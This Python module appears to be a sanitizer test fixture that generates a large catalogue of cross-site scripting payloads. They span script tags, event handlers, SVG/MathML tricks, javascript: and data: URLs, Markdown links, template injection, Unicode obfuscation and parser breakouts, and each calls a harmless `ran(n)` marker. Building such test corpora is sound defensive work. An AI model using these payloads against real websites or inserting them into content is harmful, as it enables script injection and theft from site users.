"""Texts that would run a script where a page takes them for more than text.

Each calls `ran(number)` with its own number. Written by kind: tags, attributes, ways out of an
attribute or element, drawings, addresses, Markdown, templates, odd letters, parsers' surprises.
"""

RUN = "ran(%d)"

_TAGS = [
    "<script>{run}</script>",
    "<SCRIPT>{run}</SCRIPT>",
    "<ScRiPt >{run}</sCrIpT >",
    "<script type=text/javascript>{run}</script>",
    "<script type=module>{run}</script>",
    "<script\n>{run}</script\n>",
    "<script/x>{run}</script>",
    "<script>{run}//",
    "<script src=data:text/javascript,{run}></script>",
    "<script src='data:text/javascript;charset=utf-8,{run}'></script>",
    "<script async src=data:,{run}></script>",
    "<script defer src=data:,{run}></script>",
    "<script nonce=x>{run}</script>",
    "<script><!--\n{run}\n--></script>",
    "<scr<script>ipt>{run}</scr</script>ipt>",
    "<<script>{run}</script>",
    "<script>eval('{run}')</script>",
    "<script>setTimeout('{run}')</script>",
    "<script>Function('{run}')()</script>",
    "<script>import('data:text/javascript,{run}')</script>",
    "<iframe srcdoc='<script>parent.{run}</script>'></iframe>",
    '<iframe srcdoc="&lt;script&gt;parent.{run}&lt;/script&gt;"></iframe>',
    "<iframe src=javascript:parent.{run}></iframe>",
    "<iframe src='data:text/html,<script>parent.{run}</script>'></iframe>",
    "<object data='data:text/html,<script>parent.{run}</script>'></object>",
    "<object data=javascript:{run}></object>",
    "<embed src=javascript:{run}>",
    "<embed src='data:text/html,<script>parent.{run}</script>'>",
    "<meta http-equiv=refresh content='0;url=javascript:{run}'>",
    "<meta http-equiv=refresh content='0;url=data:text/html,<script>{run}</script>'>",
    "<base href='javascript:{run}//'>",
    "<link rel=stylesheet href='data:text/css,*{{background:url(javascript:{run})}}'>",
    "<link rel=import href='data:text/html,<script>{run}</script>'>",
    "<style>@import 'javascript:{run}';</style>",
    "<style>*{{background-image:url(javascript:{run})}}</style>",
    "<div style='width:expression({run})'>x</div>",
    "<div style='background:url(javascript:{run})'>x</div>",
    "<table background=javascript:{run}><tr><td>x</table>",
    "<bgsound src=javascript:{run}>",
    "<xml onreadystatechange={run}></xml>",
]
# (element with what makes its event happen, event)
_EVENTS = [
    ("img src=x:x", "onerror"), ("img src=data:,x", "onerror"), ("image src=x:x", "onerror"),
    ("img src='data:image/gif;base64,R0lGODlhAQABAAAAACw='", "onload"), ("input type=image src=x:x", "onerror"),
    ("audio src=x:x", "onerror"), ("video src=x:x", "onerror"), ("video><source src=x:x", "onerror"),
    ("svg", "onload"), ("svg/", "onload"), ("svg><g", "onload"), ("body", "onload"), ("body", "onpageshow"),
    ("body", "onfocus"), ("iframe", "onload"), ("object data=x:x", "onerror"), ("embed src=x:x", "onerror"),
    ("embed src=about:blank", "onload"), ("link rel=stylesheet href=data:text/css,", "onload"),
    ("link rel=stylesheet href=x:x", "onerror"), ("style", "onload"), ("script src=x:x", "onerror"),
    ("script src=data:,", "onload"), ("details open", "ontoggle"), ("marquee", "onstart"),
    ("marquee loop=1 width=0", "onfinish"), ("input autofocus", "onfocus"), ("textarea autofocus", "onfocus"),
    ("select autofocus", "onfocus"), ("button autofocus", "onfocus"), ("a href=x autofocus", "onfocus"),
    ("div tabindex=0 autofocus", "onfocus"), ("div contenteditable autofocus", "onfocus"),
    ("input autofocus onfocus=this.blur()", "onblur"), ("keygen autofocus", "onfocus"),
    ("frameset", "onload"), ("track src=x:x default", "onerror"), ("picture><img src=x:x", "onerror"),
    ("x id=x tabindex=1", "onfocusin"), ("p style=animation-name:x", "onanimationstart"),
    ("p", "onclick"), ("p", "onmouseover"), ("p", "onpointerenter"), ("p draggable=true", "ondragstart"),
    ("form", "onsubmit"), ("input", "onchange"), ("body", "onhashchange"), ("body", "onmessage"),
    ("body", "onresize"), ("body", "onscroll"), ("dialog open", "onclose"), ("div popover id=y", "onbeforetoggle"),
]  # fmt: skip
_DRAWINGS = [
    "<svg><script>{run}</script></svg>",
    "<svg><script href=data:,{run} /></svg>",
    "<svg><script xlink:href=data:,{run} /></svg>",
    "<svg><animate onbegin={run} attributeName=x dur=1s>",
    "<svg><set onbegin={run} attributename=x>",
    "<svg><animatetransform onbegin={run} attributeName=transform>",
    "<svg><a xlink:href=javascript:{run}><text y=20>x</text></a></svg>",
    "<svg><a><animate attributeName=href values=javascript:{run} /><text y=20>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=\"http://www.w3.org/2000/svg\"><script>{run}</script></svg>#x'/>",
    "<svg><foreignObject><iframe onload={run}></iframe></foreignObject></svg>",
    "<svg><image href=x:x onerror={run}>",
    "<svg><title><img src=x:x onerror={run}></title></svg>",
    "<svg><style><img src=x:x onerror={run}></style></svg>",
    "<svg><desc><![CDATA[</desc><script>{run}</script>]]></svg>",
    "<math><maction actiontype=statusline xlink:href=javascript:{run}>x</maction></math>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x:x onerror={run}&gt;">',
    "<math href=javascript:{run}>x</math>",
]
_ADDRESSES = [
    "javascript:{run}", "JaVaScRiPt:{run}", " javascript:{run}", "java\tscript:{run}", "java\nscript:{run}",
    "java&#10;script:{run}", "&#106;avascript:{run}", "&#x6A;avascript:{run}", "javascript&colon;{run}",
    "\x01javascript:{run}", "javascript://%0a{run}", "javascript:void({run})", "vbscript:{run}",
    "data:text/html,<script>{run}</script>", "data:text/html;base64,PHNjcmlwdD5yYW4oMSk8L3NjcmlwdD4=",
    "view-source:javascript:{run}", "blob:javascript:{run}", "//javascript:{run}", "feed:javascript:{run}",
]  # fmt: skip
_MARKDOWN = [
    "[bấm vào đây](javascript:{run})", "[x](JAVASCRIPT:{run})", "[x](java\tscript:{run})", "[x](<javascript:{run}>)",
    "[x](data:text/html,<script>{run}</script>)", "<javascript:{run}>", "[x]: javascript:{run}\n[x]",
    "![x](x:x\"onerror=\"{run})", "![x](javascript:{run})", "![x'\"onerror={run}//](x:x)",
    "[x](x \"'onmouseover={run} \")", "`<img src=x:x onerror={run}>`", "```\n</code><script>{run}</script>\n```",
    "# <img src=x:x onerror={run}>", "> <svg onload={run}>", "- <svg onload={run}>",
    "| <svg onload={run}> |\n|---|\n| x |", "[<img src=x:x onerror={run}>](x)", "http://x/\"onfocus={run} autofocus x=\"",
]  # fmt: skip
_TEMPLATES = [
    "{{{{constructor.constructor('{run}')()}}}}", "{{{{7*7}}}}<svg onload={run}>", "${{{run}}}", "#{{{run}}}", "<%= {run} %>",
    "{{% raw %}}<svg onload={run}>{{% endraw %}}", "{{{{'<svg onload={run}>'|safe}}}}", "{{!! '<svg onload={run}>' !!}}",
    "<x v-html=\"'<svg onload={run}>'\">", "<x ng-app ng-init=$eval('{run}')>", "<x hx-on:load={run}>", "<x x-init={run}>",
    "<x onclick=\"{run}\" hx-get=/ hx-trigger=load>", "@import({run})",
]  # fmt: skip
_LETTERS = [
    "＜script＞{run}＜/script＞", "\\u003cscript\\u003e{run}\\u003c/script\\u003e", "%3Cscript%3E{run}%3C/script%3E",
    "&lt;script&gt;{run}&lt;/script&gt;", "&#60;script&#62;{run}&#60;/script&#62;", "\\x3cscript\\x3e{run}\\x3c/script\\x3e",
    "<ſcript>{run}</ſcript>", "<scrİpt>{run}</scrİpt>", "<\u200bscript>{run}</script>", "<script\u2028>{run}</script>",
    "<img\u00a0src=x:x\u00a0onerror={run}>", "<img\x0csrc=x:x\x0conerror={run}>", "<img/src=x:x/onerror={run}>",
    "\ufeff<script>{run}</script>", "\u202e<script>{run}</script>", "<a\u0301 onload={run}><svg onload={run}>",
    "<img src=x:x onerror=\u2028{run}>", "<svg onload=&#114;an(%d)>", "<svg onload=\\u0072an(%d)>", "<svg onload=ran`%d`>",
]  # fmt: skip
_PARSERS = [
    "</textarea><script>{run}</script>", "</title><script>{run}</script>", "</style><script>{run}</script>",
    "</script><script>{run}</script>", "</p></div></main><script>{run}</script>", "--><script>{run}</script>",
    "<!--><script>{run}</script>-->", "<!--<img src=\"--><img src=x:x onerror={run}>\">", "]]><script>{run}</script>",
    "<noscript><p title=\"</noscript><img src=x:x onerror={run}>\">", "<template><script>{run}</script></template>",
    "<xmp><p title=\"</xmp><svg onload={run}>\">", "<plaintext><svg onload={run}>", "<textarea><svg onload={run}>",
    "<select><svg onload={run}></select>", "<table><svg onload={run}></table>", "<img src='x:x' title=\"' onerror={run} \"",
    "<img src=x:x onerror={run} ", "<form><button formaction=javascript:{run}>x</button></form>",
    "<form action=javascript:{run}><input type=submit>", "<isindex action=javascript:{run} type=image>",
    "<a href=javascript:{run}>x</a>", "<area href=javascript:{run}>", "<input autofocus/onfocus={run}//",
]  # fmt: skip
_WAYS_OUT = ['"', "'", "`", '">', "'>", "-->", '\\"', "\\'", "' x=\"", ";//"]
_BEHIND = [
    "<script>{run}</script>", "<svg onload={run}>", " autofocus tabindex=0 onfocus={run} x=", " onmouseover={run} x=",
    "<img src=x:x onerror={run}>",
]  # fmt: skip


def _texts() -> list[str]:
    texts = [*_TAGS, *_DRAWINGS, *_MARKDOWN, *_TEMPLATES, *_LETTERS, *_PARSERS]
    texts += [f"<{element} {event}={{run}}>" for element, event in _EVENTS]
    texts += [f'<a href="{address}">x</a>' for address in _ADDRESSES]
    texts += [f"{out}{behind}" for out in _WAYS_OUT for behind in _BEHIND]
    return [
        text.replace("%d", str(number)) if "{run}" not in text else text.format(run=RUN % number)
        for number, text in enumerate(texts)
    ]


PAYLOADS = tuple(_texts())
